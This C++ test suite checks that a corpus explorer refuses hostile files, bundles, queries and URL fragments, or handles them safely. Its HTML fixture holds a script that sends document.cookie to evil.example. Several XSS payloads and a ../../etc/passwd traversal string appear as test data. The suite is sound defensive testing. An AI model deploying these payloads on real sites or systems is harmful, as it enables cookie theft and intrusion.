// Hostile input, one table (issue 6): files, bundles, queries and URL fragments that a careless or
// malicious source could hand the core. Each row names its input, the entry point it goes through
// (a file of a given name through the corpus builder, as the CLI, the desktop app and the page
// read files; a bundle through read_bundle; a query or a URL fragment through an explorer on the
// seed articles) and what must come out: a clear message holding a word that says what was wrong,
// or a sane result. No row may crash, hang or take more than a few seconds, under the sanitizers
// too (the sanitize preset runs this suite).
#include <doctest/doctest.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "core/bundle.h"
#include "core/explorer.h"
#include "core/export.h"
#include "core/ingest/corpus_builder.h"
#include "core/ingest/ingest.h"
#include "core/location.h"
#include "core/search/query.h"
#include "core/text/sentences.h"
#include "core/text/unicode.h"
#include "fixtures.h"

using namespace loupe;

namespace {

// [SECTION] Input builders -------------------------------------------------------------------------

std::string seed(int n) { return test::read_repo_file(test::kSeedFiles[n]); }

// Reproducible bytes that look like compressed data.
std::string pseudo_random_bytes(std::size_t count, std::uint32_t state) {
  std::string bytes(count, '\0');
  for (char& byte : bytes) {
    state = state * 1664525u + 1013904223u;
    byte = static_cast<char>(state >> 24);
  }
  return bytes;
}

std::string repeated(std::string_view piece, std::size_t times) {
  std::string out;
  out.reserve(piece.size() * times);
  for (std::size_t i = 0; i < times; ++i) out += piece;
  return out;
}

// A seed article's UTF-8 re-encoded as UTF-16, little or big endian, with or without a byte order mark.
std::string as_utf16(std::string_view utf8, bool little_endian, bool with_bom) {
  std::string out;
  const auto unit = [&](std::uint32_t value) {
    const char high = static_cast<char>(value >> 8);
    const char low = static_cast<char>(value & 0xFF);
    out += little_endian ? std::string{low, high} : std::string{high, low};
  };
  if (with_bom) unit(0xFEFF);
  for (std::size_t position = 0; position < utf8.size();) {
    const char32_t code_point = text::next_code_point(utf8, position);
    if (code_point >= 0x10000) {
      unit(0xD800 + ((code_point - 0x10000) >> 10));
      unit(0xDC00 + ((code_point - 0x10000) & 0x3FF));
    } else {
      unit(code_point);
    }
  }
  return out;
}

// 50 MB of a real article with every line break made a space: one line, one paragraph.
std::string one_line_of(std::size_t bytes) {
  std::string article = seed(0);
  for (char& c : article) {
    if (c == '\n' || c == '\r') c = ' ';
  }
  article += ' ';
  std::string out;
  out.reserve(bytes + article.size());
  while (out.size() < bytes) out += article;
  out.resize(bytes);
  return out;
}

// An HTML page whose scripts and event handlers must never run or turn into markup.
const char* const kHostileHtml = R"html(<!DOCTYPE html>
<html><head><title>Mistral raises new funds</title>
<script>document.location = 'https://evil.example/?c=' + document.cookie;</script>
<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
</head>
<body onload="alert('body')">
<h1 onmouseover="alert('heading')">Mistral raises new funds</h1>
<p onclick="alert('paragraph')">Mistral AI, the Paris start-up founded by Arthur Mensch, said on Tuesday that it had raised new funds from its investors.</p>
<img src="x" onerror="alert('img')">
<script type="text/javascript">alert("inline script");</script>
<p>The article shows code as text: &lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(2)&gt; are harmless here.</p>
<p><a href="javascript:alert('link')">Read more</a> about the round.</p>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<iframe srcdoc="&lt;script&gt;alert('iframe')&lt;/script&gt;"></iframe>
<noscript><p>Enable JavaScript to read this page.</p></noscript>
<style>body { background: url("javascript:alert('css')") }</style>
</body></html>
)html";

// A small valid bundle with one entity, one quote and one amount, as text to break.
struct BundleParts {
  std::string version = "2";
  std::string documents =
      R"([{"id": "a", "title": "Mistral", "text": "Mistral AI raised \u20ac600 million, said Arthur Mensch.", "words": 9},
          {"id": "b", "title": "Meta", "text": "Yann LeCun spoke in Paris.", "words": 6}])";
  // "Mistral AI raised " is bytes 0..18, the euro sign 18..21, "Arthur Mensch" 39..52.
  std::string entities = R"([{"id": "person:arthur-mensch", "name": "Arthur Mensch", "type": "person", "aliases": [],
                              "mentions": [{"doc": "a", "start": 39, "end": 52}]}])";
  std::string quotes = R"([{"doc": "a", "start": 0, "end": 32, "speaker": "person:arthur-mensch", "speaker_name": "Arthur Mensch", "role": ""}])";
  std::string money = R"([{"doc": "a", "start": 18, "end": 32, "text": "", "currency": "EUR", "min": 6e8, "max": 6e8,
                           "usd_min": null, "usd_max": null, "subject": null}])";

  std::string text() const {
    return R"({"format": "loupe-corpus", "version": )" + version + R"(, "name": "Hostile", "documents": )" + documents +
           R"(, "entities": )" + entities + R"(, "quotes": )" + quotes + R"(, "money": )" + money + "}";
  }
};

template <typename Change>
std::string bundle_with(Change change) {
  BundleParts parts;
  change(parts);
  return parts.text();
}

// [SECTION] Entry points ---------------------------------------------------------------------------

enum class Entry { File, Bundle, Query, Location };

// What an entry point gave back, in one shape for every row.
struct Outcome {
  bool refused = false;              // an error instead of a result
  std::string message;               // the error, or the notes of an accepted input, joined by "; "
  Corpus corpus;                     // File, Bundle: what was read
  const Explorer* explorer = nullptr;  // Query, Location: the explorer afterwards
};

std::string joined(const std::vector<std::string>& lines) {
  std::string text;
  for (const std::string& line : lines) text += (text.empty() ? "" : "; ") + line;
  return text;
}

const Explorer& seed_explorer() {
  static const Explorer prototype = [] {
    Explorer explorer;
    explorer.load(test::seed_corpus());
    return explorer;
  }();
  return prototype;
}

struct Row {
  const char* name;
  Entry entry;
  const char* file_name;                  // Entry::File: the name the bytes come under
  std::function<std::string()> input;
  bool refused;                           // whether the input must be refused
  const char* message_holds;              // a word or phrase the message must hold ("" for none)
  std::function<void(const Outcome&)> check = {};  // what else must hold of the result
};

// [SECTION] Checks ---------------------------------------------------------------------------------

bool holds(std::string_view text, std::string_view part) { return text.find(part) != std::string_view::npos; }


const Document& only_document(const Outcome& outcome) {
  REQUIRE(outcome.corpus.documents.size() == 1);
  return outcome.corpus.documents.front();
}

// Read as the same document as the UTF-8 original of seed `n`; a guessed encoding is a warning.
std::function<void(const Outcome&)> same_as_seed(int n, bool guessed) {
  return [n, guessed](const Outcome& outcome) {
    const ingest::IngestResult original = ingest::ingest_file("seed.txt", seed(n));
    REQUIRE(original.documents.size() == 1);
    const Document& document = only_document(outcome);
    CHECK(document.title == original.documents[0].title);
    CHECK(document.text == original.documents[0].text);
    if (guessed) {
      REQUIRE(document.warnings.size() == 1);
      CHECK(holds(document.warnings[0], "no byte order mark"));
    } else {
      CHECK(document.warnings.empty());
    }
  };
}

// The explorer is in a state the panels can draw (a known view, a selection among the documents),
// and what they ask of it is computed: the views' lists, the network, the terms, the reader's marks.
void check_explorer_sane(const Explorer& explorer) {
  bool known_view = false;
  for (const char* view : kViews) known_view = known_view || explorer.state().view == view;
  CHECK(known_view);
  const std::size_t documents = explorer.corpus().documents.size();
  if (explorer.state().selected) CHECK(*explorer.state().selected < documents);
  for (const std::size_t result : explorer.state().results) CHECK(result < documents);
  CHECK(explorer.state().filters.size() <= kMostFragmentFilters);
  CHECK(text::is_valid_utf8(explorer.state_json()));
  for (const EntityRow& row : explorer.entity_rows(EntityColumn::Mentions, false)) CHECK(row.entity < explorer.corpus().entities.size());
  for (const std::size_t quote : explorer.quotes_in_results()) CHECK(quote < explorer.corpus().quotes.size());
  for (const std::size_t amount : explorer.amounts_in_results()) CHECK(amount < explorer.corpus().amounts.size());
  CHECK(explorer.network_of_results().nodes.size() <= kNetworkNodeLimit);
  (void)explorer.terms_of_results();
  (void)explorer.concordance_lines(search::ConcordanceOrder::Left);
  for (std::size_t hit = 0; hit < explorer.state().results.size() && hit < 3; ++hit) {
    const std::size_t document = explorer.state().results[hit];
    const std::string& text = explorer.corpus().documents[document].text;
    for (const search::Passage& passage : explorer.passages_of_hit(hit)) CHECK(passage.end <= text.size());
    for (const search::Highlight& highlight : explorer.text_highlights(document)) CHECK(highlight.end <= text.size());
    for (const MentionInDocument& mention : explorer.mentions_of_document(document)) {
      CHECK(mention.end <= text.size());
      const auto [start, end] = explorer.sentence_around(document, mention.start);
      CHECK(start <= end);
      CHECK(end <= text.size());
    }
  }
}

// [SECTION] The table ------------------------------------------------------------------------------

const std::vector<Row>& rows() {
  static const std::vector<Row> table = {
      // Files ---------------------------------------------------------------------------------------
      {"an empty file", Entry::File, "empty.txt", [] { return std::string(); }, true, "empty file"},
      {"a file of NUL bytes", Entry::File, "zeros.txt", [] { return std::string(1 << 20, '\0'); }, true, "nothing but NUL bytes"},
      {"a 50 MB file with no line break", Entry::File, "one-line.txt", [] { return one_line_of(std::size_t{50} << 20); }, false, "",
       [](const Outcome& outcome) {
         const Document& document = only_document(outcome);
         CHECK(document.text.find('\n') == std::string::npos);
         CHECK(document.text.size() > (std::size_t{49} << 20));
         CHECK(document.title.size() < 1000);  // a first sentence, not the whole line
         CHECK(document.word_count > 5'000'000);
       }},
      {"a 200 MB file is refused by the size limit before it is read", Entry::File, "huge.json",
       [] { return std::string(std::size_t{200} << 20, '['); }, true, "too large: 200.0 MB (the limit is 64.0 MB a file)"},
      {"a file one byte over the limit", Entry::File, "limit.txt", [] { return std::string(ingest::kMaxFileBytes + 1, 'a'); }, true,
       "the limit is 64.0 MB"},
      {"invalid UTF-8 in a UTF-8 article is repaired, with a warning", Entry::File, "broken.txt",
       [] {
         std::string text = seed(2);
         // an overlong '/', a UTF-16 surrogate, a five-byte form, a lone continuation byte, a cut sequence at the end
         text.insert(text.find(' '), "\xC0\xAF");
         text.insert(text.find('.'), "\xED\xA0\x80");
         text.insert(text.size() / 2, "\xF8\x88\x80\x80\x80");
         text.insert(text.size() / 3, "\x80");
         return text + "\xE2\x82";
       },
       false, "not valid UTF-8",
       [](const Outcome& outcome) {
         const Document& document = only_document(outcome);
         CHECK(text::is_valid_utf8(document.title));
         CHECK(text::is_valid_utf8(document.text));
         CHECK_FALSE(document.warnings.empty());
       }},
      {"a Latin-1 article is read as Windows-1252", Entry::File, "latin1.txt",
       [] { return std::string("Caf\xE9 culture in Z\xFCrich\n\nThe caf\xE9s of Z\xFCrich serve cr\xE8me br\xFBl\xE9" "e all year round.\n"); },
       false, "Windows-1252",
       [](const Outcome& outcome) {
         const Document& document = only_document(outcome);
         CHECK(document.title == "Caf\xC3\xA9 culture in Z\xC3\xBCrich");
         CHECK(holds(document.text, "cr\xC3\xA8me br\xC3\xBBl\xC3\xA9" "e"));
       }},
      {"UTF-16 LE with a byte order mark", Entry::File, "utf16le-bom.txt", [] { return as_utf16(seed(0), true, true); }, false,
       "read as UTF-16 LE", same_as_seed(0, false)},
      {"UTF-16 BE with a byte order mark", Entry::File, "utf16be-bom.txt", [] { return as_utf16(seed(0), false, true); }, false,
       "read as UTF-16 BE", same_as_seed(0, false)},
      {"UTF-16 LE without a byte order mark", Entry::File, "utf16le.txt", [] { return as_utf16(seed(1), true, false); }, false,
       "guessed from its NUL bytes", same_as_seed(1, true)},
      {"UTF-16 BE without a byte order mark", Entry::File, "utf16be.txt", [] { return as_utf16(seed(1), false, false); }, false,
       "guessed from its NUL bytes", same_as_seed(1, true)},
      {"a PNG image renamed .txt", Entry::File, "photo.txt",
       [] { return std::string("\x89PNG\r\n\x1A\n", 8) + pseudo_random_bytes(100'000, 7); }, true, "binary file (PNG image)"},
      {"compressed data with no signature renamed .txt", Entry::File, "data.txt", [] { return pseudo_random_bytes(100'000, 42); }, true,
       "binary file"},
      {"HTML with scripts and event handlers is read as text, none of them kept", Entry::File, "page.html",
       [] { return std::string(kHostileHtml); }, false, "",
       [](const Outcome& outcome) {
         const Document& document = only_document(outcome);
         CHECK(document.title == "Mistral raises new funds");
         CHECK(holds(document.text, "Mistral AI, the Paris start-up founded by Arthur Mensch"));
         CHECK(holds(document.text, "about the round"));
         const std::string all = document.title + "\n" + document.text;
         for (const char* gone : {"document.cookie", "inline script", "alert('", "onload", "onclick", "onmouseover", "onerror=\"",
                                  "javascript:", "svg script", "background:", "Enable JavaScript"}) {
           INFO("kept: " << gone);
           CHECK_FALSE(holds(all, gone));
         }
         // Escaped markup in the article is its text, shown as text: the characters, never a tag.
         CHECK(holds(document.text, "<script>alert(1)</script> and <img src=x onerror=alert(2)> are harmless here"));
       }},
      {"a JSON file nested 100,000 arrays deep", Entry::File, "deep.json",
       [] { return repeated("[", 100'000) + repeated("]", 100'000); }, true, "nested deeper than 64 levels"},
      {"a JSON file nested 100,000 objects deep", Entry::File, "deep-objects.json",
       [] { return repeated(R"({"text":)", 100'000) + "\"x\"" + repeated("}", 100'000); }, true, "nested deeper than 64 levels"},
      {"a JSON Lines file with one line nested 100,000 deep keeps its other records", Entry::File, "deep.jsonl",
       [] {
         return std::string(R"({"id": "ok", "title": "Mistral raises funds", "text": "Mistral AI raised new funds on Tuesday."})") + "\n" +
                repeated("[", 100'000) + "\n";
       },
       false, "line 2: JSON nested deeper than 64 levels",
       [](const Outcome& outcome) { CHECK(only_document(outcome).id == "ok"); }},

      // Bundles -------------------------------------------------------------------------------------
      {"a valid bundle (the base the rows below break)", Entry::Bundle, "", [] { return BundleParts{}.text(); }, false, "",
       [](const Outcome& outcome) {
         CHECK(outcome.corpus.documents.size() == 2);
         CHECK(outcome.corpus.entities.size() == 1);
         CHECK(outcome.corpus.quotes.size() == 1);
         CHECK(outcome.corpus.amounts.size() == 1);
       }},
      {"a bundle of a later version", Entry::Bundle, "", [] { return bundle_with([](BundleParts& b) { b.version = "3"; }); }, true,
       "version: this Loupe reads version 2, found 3"},
      {"a bundle whose version is a string", Entry::Bundle, "", [] { return bundle_with([](BundleParts& b) { b.version = "\"2\""; }); },
       true, "version"},
      {"a bundle whose version is nested 100,000 arrays deep", Entry::Bundle, "",
       [] { return bundle_with([](BundleParts& b) { b.version = repeated("[", 100'000) + repeated("]", 100'000); }); }, true,
       "nested deeper than"},
      {"a bundle that is 100,000 nested arrays", Entry::Bundle, "", [] { return repeated("[", 100'000) + repeated("]", 100'000); }, true,
       "nested deeper than"},
      {"a bundle of binary bytes", Entry::Bundle, "", [] { return pseudo_random_bytes(10'000, 3); }, true, "not valid JSON"},
      {"an empty bundle", Entry::Bundle, "", [] { return std::string(); }, true, "not valid JSON"},
      {"a quote with offsets outside its document's text", Entry::Bundle, "",
       [] { return bundle_with([](BundleParts& b) { b.quotes = R"([{"doc": "b", "start": 5100, "end": 5120}])"; }); }, true,
       "quotes[0]: offsets 5100..5120 lie outside the text of \"b\""},
      {"a mention whose end lies past the text by one byte", Entry::Bundle, "",
       [] {
         return bundle_with([](BundleParts& b) {
           b.entities = R"([{"id": "e", "name": "E", "type": "other", "mentions": [{"doc": "b", "start": 0, "end": 27}]}])";
         });
       },
       true, "entities[0].mentions[0]: offsets 0..27 lie outside"},
      {"an amount whose start comes after its end", Entry::Bundle, "",
       [] {
         return bundle_with([](BundleParts& b) {
           b.money = R"([{"doc": "a", "start": 30, "end": 20, "currency": "EUR", "min": 1, "max": 1, "subject": null}])";
         });
       },
       true, "offsets 30..20"},
      {"an offset of 2^64 - 1", Entry::Bundle, "",
       [] { return bundle_with([](BundleParts& b) { b.quotes = R"([{"doc": "a", "start": 0, "end": 18446744073709551615}])"; }); }, true,
       "lie outside"},
      {"a negative offset", Entry::Bundle, "",
       [] { return bundle_with([](BundleParts& b) { b.quotes = R"([{"doc": "a", "start": -1, "end": 4}])"; }); }, true,
       "quotes[0].start: expected a whole number >= 0"},
      {"a fractional offset", Entry::Bundle, "",
       [] { return bundle_with([](BundleParts& b) { b.quotes = R"([{"doc": "a", "start": 1e300, "end": 4}])"; }); }, true,
       "expected a whole number"},
      {"two documents with one id", Entry::Bundle, "",
       [] {
         return bundle_with([](BundleParts& b) {
           b.documents = R"([{"id": "a", "title": "T", "text": "One.", "words": 2}, {"id": "a", "title": "U", "text": "Two.", "words": 2}])";
           b.entities = b.quotes = b.money = "[]";
         });
       },
       true, "documents[1].id: duplicate id \"a\""},
      {"two entities with one id", Entry::Bundle, "",
       [] {
         return bundle_with([](BundleParts& b) {
           b.entities = R"([{"id": "x", "name": "X", "type": "other", "mentions": []}, {"id": "x", "name": "Y", "type": "other", "mentions": []}])";
         });
       },
       true, "entities[1].id: duplicate id \"x\""},
      {"an entity mention pointing at a missing document", Entry::Bundle, "",
       [] {
         return bundle_with([](BundleParts& b) {
           b.entities = R"([{"id": "e", "name": "E", "type": "other", "mentions": [{"doc": "missing", "start": 0, "end": 1}]}])";
         });
       },
       true, "entities[0].mentions[0].doc: no document with id \"missing\""},
      {"a quote whose speaker is a missing entity", Entry::Bundle, "",
       [] { return bundle_with([](BundleParts& b) { b.quotes = R"([{"doc": "a", "start": 0, "end": 4, "speaker": "person:nobody"}])"; }); },
       true, "quotes[0].speaker: no entity with id \"person:nobody\""},
      {"a bundle with no documents loads an empty explorer", Entry::Bundle, "",
       [] { return bundle_with([](BundleParts& b) { b.documents = b.entities = b.quotes = b.money = "[]"; }); }, false, "",
       [](const Outcome& outcome) { CHECK(outcome.corpus.documents.empty()); }},
      {"a mention that cuts a character in two still gives a sane entity card", Entry::Bundle, "",
       [] {
         return bundle_with([](BundleParts& b) {  // bytes 19..21 are inside the euro sign (18..21)
           b.entities = R"([{"id": "e", "name": "E", "type": "other", "mentions": [{"doc": "a", "start": 19, "end": 20}, {"doc": "a", "start": 53, "end": 53}]}])";
           b.quotes = b.money = "[]";
         });
       },
       false, ""},

      // Queries -------------------------------------------------------------------------------------
      {"a query of 100 KB", Entry::Query, "", [] { return repeated("mistral \"open source\" -openai lecun* OR meta ", 2300); }, false,
       "longer than 4096 bytes: the rest was ignored"},
      {"a query of one 100 KB word", Entry::Query, "", [] { return std::string(100'000, 'a'); }, false, "longer than 4096 bytes: the rest was ignored"},
      {"a query of 10,000 opening parentheses", Entry::Query, "", [] { return std::string(10'000, '('); }, false,
       "parentheses nested deeper than 32 levels"},
      {"a query of 10,000 opening parentheses around a word", Entry::Query, "", [] { return std::string(10'000, '(') + "mistral"; },
       false, "nested deeper"},
      {"a query of 10,000 closing parentheses", Entry::Query, "", [] { return std::string(10'000, ')'); }, false,
       "closing parenthesis has no opening one"},
      {"a query of 2,500 nested exclusions", Entry::Query, "", [] { return repeated("-(", 2'500) + "mistral"; }, false, "nested deeper"},
      {"a query of only operators", Entry::Query, "", [] { return std::string("AND OR | - -- ( ) * = \" : OR AND ** =* -( |) doc: has:"); },
       false, "ignored"},
      {"a query of 1,000 ORs", Entry::Query, "", [] { return repeated("OR ", 1'000); }, false, "OR needs a term on each side"},
      {"a query of 256 words that match nothing, each looked up for a close spelling", Entry::Query, "",
       [] {
         std::string query;
         for (int i = 0; i < 256; ++i) query += "zorbl" + std::to_string(i) + " ";
         return query;
       },
       false, "\"zorbl0\" matched nothing"},
      {"a query of 300 terms", Entry::Query, "", [] { return repeated("mistral ", 300); }, false, "only the first 256 terms"},
      {"a query of NUL bytes and invalid UTF-8", Entry::Query, "", [] { return std::string("\0\xFF\xFE mistral \xC0\x80 \xED\xA0\x80*", 20); },
       false, ""},

      // URL fragments -------------------------------------------------------------------------------
      {"a URL fragment of random bytes", Entry::Location, "", [] { return pseudo_random_bytes(4'096, 11); }, false, ""},
      {"a URL fragment of broken escapes and empty keys", Entry::Location, "",
       [] { return std::string("#%%%zz%4&&&===&q&=x&q=%ZZ%&f=%&view=%00&doc=%FF%FE&entity=%"); }, false, "no view"},
      {"a URL fragment naming what is not there", Entry::Location, "",
       [] { return std::string("q=lecun&view=<script>alert(1)</script>&doc=../../etc/passwd&entity=person%3Anobody"); }, false,
       "no document with id \"../../etc/passwd\""},
      {"a URL fragment of 100 KB of distinct filters", Entry::Location, "",
       [] {
         std::string fragment = "q=mistral";
         for (int i = 0; fragment.size() < 100'000; ++i) fragment += "&f=term" + std::to_string(i);
         return fragment;
       },
       false, "",
       [](const Outcome& outcome) {
         const std::vector<std::string>& filters = outcome.explorer->state().filters;
         REQUIRE(filters.size() == kMostFragmentFilters);
         CHECK(filters.front() == "term0");
         CHECK(filters.back() == "term" + std::to_string(kMostFragmentFilters - 1));
       }},
      {"a URL fragment of one filter 10,000 times", Entry::Location, "", [] { return repeated("f=has%3Aquote&", 10'000); }, false, "",
       [](const Outcome& outcome) { CHECK(outcome.explorer->state().filters == std::vector<std::string>{"has:quote"}); }},
      {"a URL fragment whose query is 10,000 parentheses", Entry::Location, "",
       [] { return "q=" + repeated("%28", 10'000) + "&view=terms"; }, false, ""},
      {"a URL fragment with markup in its query gives an embed snippet that escapes it", Entry::Location, "",
       [] { return std::string("q=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E&view=money"); }, false, "",
       [](const Outcome& outcome) {
         CHECK(outcome.explorer->state().query == "\"><script>alert(1)</script>");
         const std::string snippet = embed_snippet("https://example.org/loupe/", location_of(*outcome.explorer));
         CHECK_FALSE(holds(snippet, "<script>alert"));
         CHECK_FALSE(holds(snippet, "\"><"));
       }},
  };
  return table;
}

Outcome run(const Row& row, const std::string& input, Explorer& explorer) {
  Outcome outcome;
  switch (row.entry) {
    case Entry::File: {
      ingest::CorpusBuilder builder("hostile");
      builder.add_file(row.file_name, row.file_name, input);
      std::vector<std::string> report;
      outcome.corpus = builder.finish(report);
      outcome.refused = outcome.corpus.documents.empty();
      report.pop_back();  // the summary line
      outcome.message = joined(report);
      break;
    }
    case Entry::Bundle: {
      BundleReadResult read = read_bundle(input);
      outcome.refused = !read.corpus.has_value();
      outcome.message = read.error;
      if (read.corpus) {
        outcome.corpus = *read.corpus;
        explorer.load(std::move(*read.corpus));
        for (const EntityRecord& entity : explorer.corpus().entities) CHECK(explorer.apply(SelectEntity{entity.id}).empty());
        for (const char* view : kViews) {
          explorer.apply(ShowView{view});
          check_explorer_sane(explorer);
        }
        outcome.explorer = &explorer;
      }
      break;
    }
    case Entry::Query: {
      explorer = seed_explorer();
      explorer.apply(SetQuery{input});
      outcome.message = joined(explorer.search_result().notes);
      outcome.explorer = &explorer;
      break;
    }
    case Entry::Location: {
      explorer = seed_explorer();
      std::vector<std::string> errors;
      for (const Action& action : actions_for_location(input)) {
        if (std::string error = explorer.apply(action); !error.empty()) errors.push_back(std::move(error));
      }
      outcome.message = joined(errors);
      outcome.explorer = &explorer;
      break;
    }
  }
  return outcome;
}

}  // namespace

TEST_CASE("hostile input gives a clear message or a sane result, never a crash or a hang") {
  constexpr double kRowSeconds = 20.0;  // a guard against a hang or a quadratic path; rows take well under a second natively
  for (const Row& row : rows()) {
    INFO("row: " << std::string(row.name));
    const auto started = std::chrono::steady_clock::now();
    const std::string input = row.input();
    Explorer explorer;
    const Outcome outcome = run(row, input, explorer);
    INFO("message: " << outcome.message.substr(0, 500));
    CHECK(outcome.refused == row.refused);
    if (outcome.refused) CHECK_FALSE(outcome.message.empty());
    CHECK(holds(outcome.message, row.message_holds));
    if (outcome.explorer) check_explorer_sane(*outcome.explorer);
    if (row.check) row.check(outcome);
    const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
    INFO("took " << seconds << " s");
    if (std::getenv("LOUPE_TEST_TIMES")) std::fprintf(stderr, "%7.3f s  %s\n", seconds, row.name);  // each row's time, on request
    CHECK(seconds < kRowSeconds);
  }
}

TEST_CASE("the size limit refuses a file from its size alone, before decoding or parsing it") {
  // A 200 MB file that would be binary (NUL bytes) and nested JSON if it were looked at: the
  // message is the size limit's, so nothing but its size was.
  const std::string huge(std::size_t{200} << 20, '\0');
  const auto started = std::chrono::steady_clock::now();
  const ingest::IngestResult result = ingest::ingest_file("huge.json", huge);
  const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
  CHECK(result.documents.empty());
  CHECK(result.error == "too large: 200.0 MB (the limit is 64.0 MB a file)");
  CHECK(result.error == ingest::file_too_large_error(huge.size()));
  CHECK(seconds < 0.5);
}

TEST_CASE("the first sentences alone are the first of all the sentences (a title reads no further)") {
  for (int n = 0; n < 4; ++n) {
    const std::string text = seed(n);
    const std::vector<text::Sentence> all = text::split_sentences(text);
    REQUIRE(all.size() > 3);
    for (const std::size_t most : {std::size_t{1}, std::size_t{3}}) {
      const std::vector<text::Sentence> first = text::split_sentences(text, most);
      REQUIRE(first.size() == most);
      for (std::size_t i = 0; i < most; ++i) {
        CHECK(first[i].start == all[i].start);
        CHECK(first[i].end == all[i].end);
      }
    }
  }
}
